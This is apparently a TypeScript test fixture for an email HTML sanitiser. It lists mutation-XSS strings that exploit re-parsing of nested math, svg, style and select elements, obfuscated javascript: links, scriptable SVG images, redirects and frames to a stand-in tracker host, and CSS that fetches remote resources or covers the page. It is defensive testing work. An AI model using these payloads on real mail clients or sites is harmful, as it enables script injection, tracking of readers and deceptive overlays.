// Mail that wants to do something, beyond the plain ways (../mail-hostile.test.ts): what becomes another document when it is parsed again,
// styles that fetch or cover, pictures that are programs, pages that lead elsewhere.
//
// Each says what it tries. What would run sets `ran`, what would leave asks `away`.

const img = '<img src=x onerror=top.ran=1>'

export const away = 'https://tracker.test'

export const furtherVectors: Readonly<Record<string, string>> = {
  'parsed again: glyphs': `<math><mtext><table><mglyph><svg><mtext><style><path id="</style>${img}">`,
  'parsed again: annotations': `<svg><annotation-xml><foreignobject><style><!--</style><p id="--&gt;${img}">`,
  'parsed again: forms': `<form id=a></form><form id=b><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${img}">`,
  'parsed again: too deep': `${'<div>'.repeat(510)}<svg><style><a alt="</style>${img}">`,
  'parsed again: deep in turns': `${'<svg><foreignObject>'.repeat(260)}<math><mi><style><!--</style><a title="--&gt;${img}">`,
  'parsed again: lists': `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><path id="</textarea>${img}">`,
  'parsed again: selects': `<select><iframe></select>${img}<select><template shadowrootmode=open>${img}</template></select>`,
  'parsed again: signs': `<svg><desc><![CDATA[</desc><script>top.ran=1</script>]]></desc></svg><?xml ><p title="?>${img}"></p><!${img}>`,
  'parsed again: breaks': `<p><svg><style>&lt;/style&gt;&lt;img src=x onerror=top.ran=1&gt;</style></svg><svg></br><style>${img}</style>`,
  'parsed again: plaintext': `<noembed>${img}</noembed><noframes>${img}</noframes><listing>&lt;img onerror=top.ran=1 src=x&gt;</listing><plaintext>${img}`,
  'links that run': `<a href="java&Tab;script:top.ran=1">x</a><a href="&#x1F;javascript:top.ran=1">x</a><a href="vbscript:x">x</a><a href="JaVaScRiPt&colon;top.ran=1">x</a><a href="blob:x">x</a><a href="filesystem:x">x</a>`,
  'pictures that are programs': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.ran=1'/>"><img src="data:image/svg+xml;base64,PHN2Zy8+"><svg><set attributeName=href to=javascript:top.ran=1 /><a xlink:href="javascript:top.ran=1"><text>x</text></a><use href="data:image/svg+xml,<svg id=x onload=top.ran=1>#x"/></svg>`,
  'pages that lead elsewhere': `<frameset><frame src="${away}/fs"></frameset><portal src="${away}/po"></portal><fencedframe src="${away}/ff"></fencedframe><script type=speculationrules>{"prefetch":[{"source":"list","urls":["${away}/sp"]}]}</script><link rel=preconnect href="${away}"><META HTTP-EQUIV=refresh CONTENT="0; URL='${away}/mr'"><isindex action="${away}/is"><body background="${away}/bb.png"><html manifest="${away}/ma">`,
  'old ways': `<marquee onstart=top.ran=1>x</marquee><bgsound src="${away}/bs"><layer src="${away}/la"></layer><applet code="${away}/ap"></applet><xml src="${away}/xm"></xml><comment>${img}</comment><img dynsrc="${away}/dy" lowsrc="${away}/lo">`,
  'styles that fetch': `<style>@import '${away}/1.css';@\\69mport url(${away}/2.css);@import/**/"${away}/3.css" screen;p{cursor:url(${away}/c.cur),auto;filter:url(${away}/f.svg#x);mask:url("${away}/m.svg");border-image:url(${away}/b.png) 1;--x:url(${away}/v.png);background:var(--x)}p::before{content:url(${away}/ct.png)}@font-face{font-family:y;src:local(no),url(${away}/y.woff)}p{font-family:y}@namespace url(${away}/ns);</style><p style="background:URL( '${away}/u.png' );background:-webkit-image-set(url(${away}/w.png) 1x);shape-outside:url(${away}/so.png)">x</p>`,
  'styles that end early': `<style>p{color:red}/*</style>${img}*/</style><style>a{content:"</style>${img}"}</style><p style="x:expression(top.ran=1);behavior:url(${away}/h.htc);-moz-binding:url(${away}/b.xml#x)">x</p><style>p{background:url(</style><style>${away}/half.png)}</style>`,
  'styles that listen': `<style>a[href^="h"]{background:url(${away}/a)}:root:has(p){background:url(${away}/has)}@media (min-width:1px){p{background:url(${away}/mq)}}@supports (color:red){p{list-style:url(${away}/su)}}@container (min-width:1px){p{background:url(${away}/cq)}}@keyframes k{from{background:url(${away}/kf)}}p{animation:k 1s}</style><p>x</p><a href="https://good.test">x</a>`,
  'styles that cover': `<style>html,body,p,div{position:fixed!important;inset:-9999px!important;z-index:2147483647!important;inline-size:99999px!important;block-size:99999px!important}</style><div popover style="display:block;position:fixed;inset:0">x</div><dialog open style="position:fixed;inset:0">x</dialog>`,
}
